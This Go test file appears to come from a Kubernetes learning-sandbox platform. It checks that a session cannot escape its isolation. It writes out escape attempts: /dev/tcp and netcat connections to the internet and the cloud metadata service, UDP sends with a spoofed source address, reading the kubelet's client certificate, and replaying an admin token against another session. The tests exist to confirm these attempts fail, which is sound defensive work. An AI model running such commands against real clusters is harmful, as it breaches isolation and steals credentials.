package kind

import (
	"crypto/tls"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"os"
	"strings"
	"testing"

	"k8s.io/client-go/tools/clientcmd"

	"drydock/sandbox/firewall/testhosts"
)

// networkAttacks try to reach what is not in the sandbox, from everywhere in
// it, the node included. That the test hosts answer the machine itself was
// checked when they were made.
func (a *arena) networkAttacks(t *testing.T) {
	web, platform := fmt.Sprint(testhosts.HTTPPort), fmt.Sprint(a.hosts.PlatformPort)
	const addresses = "{{range .Containers}}{{.IPv4Address}} {{end}}"
	gateway := a.networkOf(t, a.attacker, "{{range .IPAM.Config}}{{.Gateway}} {{end}}")[0]
	targets := []struct{ name, host, port, heard string }{
		{"the internet", testhosts.Internet, web, testhosts.Internet},
		{"a neighbour of the machine", testhosts.Neighbour, web, testhosts.Neighbour},
		{"the metadata service", testhosts.Metadata, web, testhosts.Metadata},
		{"the metadata service over IPv6", testhosts.Metadata6, web, testhosts.Metadata6},
		{"the platform at the gateway", gateway, platform, "platform"},
		{"the platform at the machine", testhosts.Machine, platform, "platform"},
		{"the platform at the other gateway", a.networkOf(t, a.other, "{{range .IPAM.Config}}{{.Gateway}} {{end}}")[0], platform, "platform"},
		{"its own published API", gateway, a.publishedPort(t, attackSession), ""},
		{"another session's published API", gateway, a.publishedPort(t, otherSession), ""},
	}
	for i, address := range a.networkOf(t, a.other, addresses) {
		prefix := netip.MustParsePrefix(address)
		for _, port := range []string{"6443", "10250"} {
			targets = append(targets, struct{ name, host, port, heard string }{fmt.Sprintf("another session's container %d, port %s", i, port), prefix.Addr().String(), port, ""})
		}
	}
	a.hosts.Forget()
	for _, from := range []place{"", fromPod, fromNode} {
		name := string(from)
		if from == "" {
			name = "terminal"
		}
		t.Run("from the "+name, func(t *testing.T) {
			// What is in the sandbox answers, so silence is not for want of a network.
			node := nodeName
			if from == fromPod {
				node = nodeAddress
			}
			a.must(t, from, connect(from, node, "6443"))
			// All at once: each of them takes as long as one waits for silence.
			var all strings.Builder
			for i, target := range targets {
				fmt.Fprintf(&all, "{ %s && echo open %d.; } & ", connect(from, target.host, target.port), i)
			}
			_, out := a.run(t, attackSession, from, all.String()+"wait", "")
			for i, target := range targets {
				t.Run(target.name, func(t *testing.T) {
					if strings.Contains(out, fmt.Sprintf("open %d.", i)) {
						t.Errorf("%s:%s answers", target.host, target.port)
					}
					if target.heard != "" && a.hosts.Heard(target.heard) != 0 {
						t.Errorf("%s was reached", target.heard)
					}
				})
			}
		})
	}
	t.Run("datagrams", a.datagrams)
	t.Run("names of the outside", func(t *testing.T) {
		for _, from := range []place{"", fromPod, fromNode} {
			lookup := "getent hosts example.com"
			if from == fromPod {
				lookup = "nslookup example.com"
			}
			if code, out := a.run(t, attackSession, from, lookup, ""); code == 0 {
				t.Errorf("from %q a name of the outside is known: %s", from, out)
			}
		}
	})
}

// connect is a script that exits with 0 when a TCP connection is made.
func connect(from place, host, port string) string {
	if from == fromPod {
		return "timeout 2 nc -w 2 " + host + " " + port + " </dev/null"
	}
	return "timeout 2 bash -c 'exec 3<>/dev/tcp/" + host + "/" + port + "'"
}

// datagrams need no answer to do harm.
func (a *arena) datagrams(t *testing.T) {
	a.hosts.Forget()
	for _, host := range []string{testhosts.Internet, testhosts.Neighbour, testhosts.Metadata} {
		a.run(t, attackSession, "", "echo out | timeout 2 bash -c 'cat >/dev/udp/"+host+"/53'", "")
		a.run(t, attackSession, fromPod, "echo out | timeout 2 nc -u -w 1 "+host+" 53", "")
		// Root on the node says it is somebody else.
		for _, source := range []string{testhosts.Machine, testhosts.Neighbour} {
			a.run(t, attackSession, fromNode, "ip address add "+source+"/32 dev eth0; echo out | timeout 2 bash -c 'cat >/dev/udp/"+host+"/53'; ip route get "+host+" from "+source+"; "+
				"ping -c1 -W1 -I "+source+" "+host+"; ip address del "+source+"/32 dev eth0", "")
		}
		if n := a.hosts.Heard(host); n != 0 {
			t.Errorf("%d datagrams reached %s", n, host)
		}
	}
}

// publishedPort is where the platform reaches a session's API server.
func (a *arena) publishedPort(t *testing.T, session string) string {
	t.Helper()
	cfg := a.restConfig(t, session)
	_, port, err := net.SplitHostPort(strings.TrimPrefix(cfg, "https://"))
	if err != nil {
		t.Fatal(err)
	}
	return port
}

func (a *arena) restConfig(t *testing.T, session string) (server string) {
	t.Helper()
	raw, err := a.KubeConfig(t.Context(), session)
	if err != nil {
		t.Fatal(err)
	}
	cfg, err := clientcmd.RESTConfigFromKubeConfig(raw)
	if err != nil {
		t.Fatal(err)
	}
	return cfg.Host
}

// sessionAttacks use one session's credentials in another. The platform can
// reach both, so the attempts are made from there: not even a learner who got
// a connection would get further.
func (a *arena) sessionAttacks(t *testing.T) {
	learner := strings.TrimSpace(a.must(t, "", "kubectl config view --raw -o jsonpath='{.users[0].user.token}'"))
	admin := a.must(t, "", "kubectl create serviceaccount boss >/dev/null && kubectl create clusterrolebinding boss --clusterrole=cluster-admin --serviceaccount=default:boss >/dev/null && kubectl create token boss")
	for name, token := range map[string]string{"the learner's token": learner, "an administrator's token": strings.TrimSpace(admin)} {
		t.Run(name, func(t *testing.T) {
			if got := a.status(t, attackSession, token, nil); got != http.StatusOK {
				t.Errorf("in its own session it is answered with %d, so that nothing is proven", got)
			}
			if got := a.status(t, otherSession, token, nil); got != http.StatusUnauthorized {
				t.Errorf("in another session it is answered with %d, want 401", got)
			}
		})
	}
	t.Run("the node's certificate", func(t *testing.T) {
		dir := t.TempDir()
		pem := a.must(t, fromNode, "cat /var/lib/kubelet/pki/kubelet-client-current.pem")
		if err := os.WriteFile(dir+"/pem", []byte(pem), 0o600); err != nil {
			t.Fatal(err)
		}
		cert, err := tls.LoadX509KeyPair(dir+"/pem", dir+"/pem")
		if err != nil {
			t.Fatal(err)
		}
		// It is known there, although it may not look at all nodes.
		if got := a.status(t, attackSession, "", &cert); got == http.StatusUnauthorized {
			t.Errorf("in its own session it is answered with %d, so that nothing is proven", got)
		}
		if got := a.status(t, otherSession, "", &cert); got != http.StatusUnauthorized {
			t.Errorf("in another session it is answered with %d, want 401", got)
		}
	})
}

// status asks a session's API server for its nodes.
func (a *arena) status(t *testing.T, session, token string, cert *tls.Certificate) int {
	t.Helper()
	cfg := &tls.Config{InsecureSkipVerify: true} // an attacker does not mind
	if cert != nil {
		cfg.Certificates = []tls.Certificate{*cert}
	}
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, a.restConfig(t, session)+"/api/v1/nodes", nil)
	if err != nil {
		t.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	transport := &http.Transport{TLSClientConfig: cfg}
	defer transport.CloseIdleConnections()
	res, err := transport.RoundTrip(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	return res.StatusCode
}
